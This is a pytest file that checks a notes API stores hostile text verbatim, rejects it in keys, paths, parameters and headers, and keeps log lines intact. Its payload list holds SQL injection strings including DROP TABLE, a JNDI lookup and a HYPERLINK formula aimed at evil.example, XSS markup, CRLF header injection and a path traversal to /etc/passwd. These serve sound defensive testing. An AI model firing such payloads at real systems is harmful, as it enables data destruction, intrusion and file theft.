"""Text is text: it is stored as it came, runs nowhere, and breaks no log line."""

import json
from urllib.parse import quote

import pytest

from callers import Client

HOSTILE = {
    "a quote": "' OR '1'='1",
    "a second statement": "'; DROP TABLE notes; --",
    "a union": "x' UNION SELECT tenant_id::text FROM notes --",
    "a sleep": "1; SELECT pg_sleep(9) --",
    "a comment": "admin'/**/--",
    "dollar quotes": "$$; DELETE FROM notes; $$",
    "a bound name": ":title %(title)s $1 ?",
    "an operator of a document store": '{"$ne": null}',
    "a template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% raw %}",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "a format": "%s%n%x {0.__class__} {title!r} %(levelname)s",
    "a log line": 'x\r\n{"event": "request_served", "status": 200}',
    "a header": "x\r\nSet-Cookie: admin=1",
    "a terminal": "\x1b[2J\x1b]0;owned\x07",
    "a line of another kind": "a\u2028b\u2029c\x85d\x0be",
    "markup": '<script>alert(1)</script>"><img src=x onerror=alert(1)>',
    "a formula": '=HYPERLINK("http://evil.example")',
    "right to left": "\u202egnp.exe",
    "a path": "../../../../etc/passwd",
}
every_hostile = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())


def lines(captured: str) -> list[dict[str, object]]:
    """Every line is one event of ours; anything else does not parse."""
    return [json.loads(line) for line in captured.split("\n") if line]


@pytest.mark.example
@pytest.mark.case("V-02", "V-03")
@every_hostile
async def test_it_is_stored_as_it_came(ana: Client, ben: Client, text: str) -> None:
    made = await ana.post("/v1/notes", json={"title": text, "body": text})
    assert made.status_code == 201, made.text
    read = (await ana.get(made.headers["location"])).json()
    assert (read["title"], read["body"]) == (text, text)
    assert [note["title"] for note in (await ana.get("/v1/notes")).json()["items"]] == [text]
    assert (await ben.get("/v1/notes")).json()["items"] == []


@pytest.mark.example
@pytest.mark.case("V-02", "V-03")
@every_hostile
async def test_elsewhere_it_is_refused_and_never_a_crash(
    ana: Client, text: str, capsys: pytest.CaptureFixture[str]
) -> None:
    draft = {"title": "a", "body": ""}
    header = text.encode("utf-8").replace(b"\r", b"").replace(b"\n", b"")
    url = (await ana.post("/v1/notes", json=draft)).headers["location"]
    answers = {
        "a key": await ana.post("/v1/notes", json={**draft, text: "a"}),
        "a path": await ana.get(f"/v1/notes/{quote(text, safe='')}"),
        "a cursor": await ana.get("/v1/notes", params={"cursor": text}),
        "a limit": await ana.get("/v1/notes", params={"limit": text}),
        "a parameter": await ana.get("/v1/notes", params={text: "1"}),
        "a version": await ana.put(url, json=draft, headers={b"if-match": header}),
        "a token": await ana.get("/v1/notes", headers={b"authorization": b"Bearer " + header}),
    }
    for place, answer in answers.items():
        assert 400 <= answer.status_code < 500, (place, answer.text)
        assert answer.headers["content-type"] == "application/problem+json", place
        assert not set(answer.headers) & {"set-cookie"}
    for line in lines(capsys.readouterr().out):
        assert line["event"] == "request_served"


@pytest.mark.example
@pytest.mark.case("V-03")
@every_hostile
async def test_headers_that_mean_nothing_here_change_nothing(
    ana: Client, text: str, capsys: pytest.CaptureFixture[str]
) -> None:
    value = text.encode("utf-8").replace(b"\r", b"").replace(b"\n", b"")
    headers = dict.fromkeys((b"user-agent", b"referer", b"traceparent", b"x-forwarded-for"), value)
    assert (await ana.get("/v1/notes", headers=headers)).status_code == 200
    logged = lines(capsys.readouterr().out)
    assert [line["event"] for line in logged] == ["request_served"]
    assert text not in str(logged)


@pytest.mark.case("V-03")
@pytest.mark.parametrize("log_format", ["json", "console"])
def test_whatever_is_logged_stays_on_one_line(
    log_format: str, capsys: pytest.CaptureFixture[str]
) -> None:
    from service.chassis.telemetry.logs import _renderer  # noqa: PLC0415

    for text in HOSTILE.values():
        rendered = _renderer(log_format)(None, "info", {"event": "e", "level": "info", "v": text})
        assert "\n" not in str(rendered)
        assert log_format == "console" or str(rendered).isascii()
